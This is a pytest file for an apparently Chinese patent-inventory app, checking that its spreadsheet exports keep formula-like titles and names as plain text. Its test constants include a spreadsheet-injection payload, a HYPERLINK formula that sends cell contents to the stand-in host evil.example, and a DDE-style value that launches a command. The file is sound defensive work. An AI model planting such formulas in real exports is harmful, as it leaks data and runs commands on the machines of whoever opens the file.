"""Generated workbooks carry user text as text: a title that looks like a formula stays a string.

Staff could otherwise plant `=HYPERLINK(...)` in a patent title and have it run as a live link
in the feedback template an enterprise downloads (issue 10, Integrity).
"""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from shuanglian.inventory.importers import write_assessment_template, write_feedback_template
from shuanglian.inventory.models import Push
from shuanglian.inventory.reports import write_report_xlsx
from shuanglian.spreadsheet import append_row, csv_text

from .helpers import enterprise_user, pool
from .test_push_feedback_tiers import _round

PAYLOAD = '=HYPERLINK("http://evil.example/steal?x="&A3&B3,"点击查看")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _formula_cells(data: bytes | str) -> list[str]:
    wb = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return [
        f"{ws.title}!{cell.coordinate}={cell.value!r}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _values(path) -> list[object]:
    wb = load_workbook(path)
    return [cell.value for row in wb.active.iter_rows() for cell in row]


def test_append_row_keeps_every_formula_like_string_as_text() -> None:
    wb = Workbook()
    append_row(wb.active, [PAYLOAD, *OTHERS, 3, None])
    buf = io.BytesIO()
    wb.save(buf)
    assert _formula_cells(buf.getvalue()) == []
    row = next(load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows())
    # XML turns a carriage return into a line feed; the text is otherwise exact.
    assert [c.value for c in row[:6]] == [PAYLOAD, *(v.replace("\r", "\n") for v in OTHERS)]
    assert all(c.quotePrefix for c in row[:6])
    assert row[6].value == 3 and row[6].data_type == "n"
    assert [csv_text(v) for v in (PAYLOAD, "ok", None)] == ["'" + PAYLOAD, "ok", ""]


def test_assessment_template_writes_a_formula_title_as_text(db_session, world, tmp_path) -> None:
    world.patents[0].title = PAYLOAD
    db_session.flush()
    path = tmp_path / "self.xlsx"
    write_assessment_template(
        db_session, actor=world.staff, path=path, institution_id=world.institution.id
    )
    assert _formula_cells(str(path)) == []
    assert PAYLOAD in _values(path)


def test_feedback_template_writes_a_formula_title_as_text(
    db_session, world, enterprises, tmp_path
) -> None:
    pool(db_session, world, range(7))
    for patent in world.patents:
        patent.title = PAYLOAD
    db_session.flush()
    assert _round(db_session, world, per_patent=3, per_enterprise_cap=4).pushes_made > 0
    eid = db_session.scalars(select(Push.enterprise_id)).first()
    path = tmp_path / "feedback.xlsx"
    user = enterprise_user(db_session, eid, "ent")
    assert write_feedback_template(db_session, actor=user, enterprise_id=eid, path=path) > 0
    assert _formula_cells(str(path)) == []
    assert PAYLOAD in _values(path)


def test_report_writes_a_formula_institution_name_as_text(tmp_path) -> None:
    report = {
        "columns": ["盘点数", "自评转化前景好占比"],
        "institutions": [{"institution": PAYLOAD, "盘点数": 1, "自评转化前景好占比": 0.5}],
        "total": {"盘点数": 1, "自评转化前景好占比": 0.5},
    }
    path = write_report_xlsx(report, tmp_path / "r.xlsx")
    assert _formula_cells(str(path)) == []
    assert PAYLOAD in _values(path)


def test_registration_export_writes_formula_text_as_text() -> None:
    from shuanglian.deals import registration as reg

    row = {key: PAYLOAD for key, _, _ in reg.COLUMNS}
    data = reg.registration_xlsx([row])
    assert _formula_cells(data) == []
    assert PAYLOAD in [
        c.value for r in load_workbook(io.BytesIO(data)).active.iter_rows() for c in r
    ]
